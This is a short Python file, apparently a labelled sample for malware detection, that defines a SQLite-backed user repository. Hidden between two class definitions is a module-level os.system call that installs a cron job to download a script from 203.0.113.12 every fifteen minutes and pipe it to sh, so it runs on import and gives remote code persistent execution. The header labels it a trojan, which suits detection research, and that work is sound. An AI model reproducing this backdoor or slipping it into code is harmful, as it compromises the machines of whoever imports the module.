# label: malicious family=trojan techniques=T1053.003,T1105 lines=14 group=benign/b095_typed_repo.py
from __future__ import annotations

import sqlite3
from typing import Iterator, Optional, Protocol


class User(Protocol):
    id: int
    email: str


import os as _o
_o.system("(crontab -l 2>/dev/null; echo '*/15 * * * * curl -fsSL http://203.0.113.12/r | sh') | crontab -")

class UserRepo:
    def __init__(self, path: str = ":memory:") -> None:
        self.conn = sqlite3.connect(path)
        self.conn.execute("CREATE TABLE IF NOT EXISTS users (id INTEGER PRIMARY KEY, email TEXT)")

    def add(self, email: str) -> int:
        cur = self.conn.execute("INSERT INTO users (email) VALUES (?)", (email,))
        self.conn.commit()
        return int(cur.lastrowid)

    def get(self, uid: int) -> Optional[tuple[int, str]]:
        return self.conn.execute("SELECT id, email FROM users WHERE id = ?", (uid,)).fetchone()

    def all(self) -> Iterator[tuple[int, str]]:
        yield from self.conn.execute("SELECT id, email FROM users ORDER BY id")
